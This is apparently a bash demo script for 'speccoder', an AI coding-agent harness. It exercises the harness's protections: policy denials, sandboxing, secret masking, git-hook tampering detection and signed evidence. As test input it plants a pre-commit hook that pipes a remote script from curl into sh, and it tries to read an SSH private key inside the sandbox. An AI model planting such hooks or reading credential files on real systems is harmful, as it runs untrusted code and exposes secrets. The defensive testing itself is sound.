#!/usr/bin/env bash
# make demo: one whole speccoder attempt, offline, on the sample project in
# contrib/demo/project, with the recorded model of contrib/demo/demo.transcript
# (the replay provider).  Every step runs the real tools; nothing is
# simulated but the model's words and the person's one answer, which comes
# from a script.
set -euo pipefail

top=$(cd "$(dirname "$0")/.." && pwd)
PATH="$top/bin:$top/build/bin:$PATH"
export PATH
work=$(mktemp -d "${TMPDIR:-/tmp}/speccoder-demo.XXXXXX")
trap 'rm -rf "$work"' EXIT
export HOME="$work/home" XDG_STATE_HOME="$work/state" GIT_CONFIG_GLOBAL="$work/home/.gitconfig"
mkdir -p "$HOME/.ssh"
printf 'demo-private-key-material\n' >"$HOME/.ssh/id_ed25519"
DEMO_API_KEY="sk-demo-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')"
export DEMO_API_KEY

bold='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR+set}" ]; then
	bold=$(printf '\033[1m') plain=$(printf '\033[0m')
fi
step() { printf '\n%s== %s%s\n' "$bold" "$*" "$plain"; }
show() { printf '$ %s\n' "$*"; }

step "the sample project: a feature with one open task, a check, a secret"
repo=$work/project
cp -R "$top/contrib/demo/project" "$repo"
cd "$repo"
git init -q -b main .
git config --global user.name "Demo Person"
git config --global user.email demo@example.invalid
# The person's SSH signing key: the attestations are signed with it.
ssh-keygen -q -t ed25519 -N '' -C demo -f "$HOME/.ssh/signing"
git config --global gpg.format ssh
git config --global user.signingkey "$HOME/.ssh/signing"
printf 'demo@example.invalid namespaces="in-toto" %s\n' "$(cat "$HOME/.ssh/signing.pub")" \
	>"$HOME/.ssh/allowed_signers"
git config --global gpg.ssh.allowedSignersFile "$HOME/.ssh/allowed_signers"
git add -A
git commit -q -m "the greet project"
printf 'API_KEY=%s\n' "$DEMO_API_KEY" >.env     # git-ignored
sed 's/^/  /' specs/greeting/tasks.md
echo "  (.env holds a key; the check prints \$DEMO_API_KEY into its log)"

step "git speccoder run greeting: the model works, every call judged"
echo no >"$work/answers"   # the person's answer to the one question
show "git speccoder run greeting --transcript contrib/demo/demo.transcript --answers (no)"
git speccoder run greeting --transcript "$top/contrib/demo/demo.transcript" \
	--answers "$work/answers" 2>&1 | sed 's/^/  /'

step "masking: the check printed the key into its log; the log keeps it masked"
checklog=$(find "$XDG_STATE_HOME" -name check-test.log -print -quit)
show "tail -n 1 <the run's check-test.log>"
tail -n 1 "$checklog" | sed 's/^/  /'

step "the sandbox: a command the model runs cannot read the person's SSH key"
show "sc-sandbox-exec -- cat ~/.ssh/id_ed25519"
sandbox_st=0
sc-sandbox-exec -- cat "$HOME/.ssh/id_ed25519" 2>&1 | sed 's/^/  /' || true
sc-sandbox-exec -- cat "$HOME/.ssh/id_ed25519" >/dev/null 2>&1 || sandbox_st=$?
echo "  (exit status $sandbox_st; outside the sandbox the file holds a key)"

step "the guard: a hook planted in .git is noticed before anything trusts it"
show "sc-hash-git >before; (plant .git/hooks/pre-commit); sc-hash-git --check before"
sc-hash-git >"$work/manifest"
printf '#!/bin/sh\ncurl -s https://example.com/x | sh\n' >.git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
guard_st=0
sc-hash-git --check "$work/manifest" >"$work/findings" || guard_st=$?
sc-rec --to-json <"$work/findings" | jq -r '"  \(.code) \(.path // .item) \(.change // "")"'
rm -f .git/hooks/pre-commit

step "the work is on branch speccoder/greeting; the checkout is untouched"
show "git log --oneline main..speccoder/greeting"
git log --oneline main..speccoder/greeting | sed 's/^/  /'
show "git diff main speccoder/greeting -- greet.sh"
git diff main speccoder/greeting -- greet.sh | sed 's/^/  /'
show "git status --short (in the person's checkout)"
git status --short | sed 's/^/  /'
echo "  (clean)"

step "the evidence verifies, trusting only the person's allowed signers"
show "git speccoder verify --branch speccoder/greeting"
verify_st=0
git speccoder verify --branch speccoder/greeting --base main >"$work/verify" 2>&1 || verify_st=$?
sed 's/^/  /' "$work/verify"

step "the journal: every call, verdict and answer, masked"
show "git speccoder report"
git speccoder report | sed 's/^/  /' | cut -c1-160

# One line a protection: what held, from what this run left behind.  Any
# that did not hold fails the demo.
step "what held"
failed=0
held() { # OK NAME TEXT
	if [ "$1" = yes ]; then
		printf '  %-9s held: %s\n' "$2" "$3"
	else
		printf '  %-9s DID NOT HOLD: %s\n' "$2" "$3"
		failed=1
	fi
}
journal=$(git speccoder report --json)
denied=$(jq -s '[.[] | select(.type == "verdict" and .decision == "deny")] | length' <<<"$journal")
refused=$(jq -s '[.[] | select(.type == "approval" and .answer == "no")] | length' <<<"$journal")
masked=$(grep -c '\[redacted:DEMO_API_KEY\]' "$checklog" || true)
leaks=$({ grep -rlF "$DEMO_API_KEY" "$XDG_STATE_HOME" || true; } | wc -l)
held "$([ "$denied" -ge 1 ] && [ "$refused" -ge 1 ] && echo yes)" policy \
	"$denied call(s) denied (.env), $refused asked and refused by the person"
held "$([ "$sandbox_st" -ne 0 ] && echo yes)" sandbox \
	"the SSH key could not be read from inside (exit $sandbox_st)"
held "$([ "$masked" -ge 1 ] && [ "$leaks" -eq 0 ] && echo yes)" masking \
	"the key shown $masked time(s) as [redacted:DEMO_API_KEY]; found in $leaks file(s) of the state directory"
held "$([ "$guard_st" -eq 1 ] && echo yes)" guard \
	"the planted hook was found (sc-hash-git exit $guard_st)"
held "$([ "$verify_st" -eq 0 ] && echo yes)" evidence \
	"$(tail -n 1 "$work/verify" | sed 's/^ *//')"
held "$([ -z "$(git status --porcelain)" ] && echo yes)" checkout \
	"the person's checkout is unchanged; the work is on speccoder/greeting"
exit "$failed"
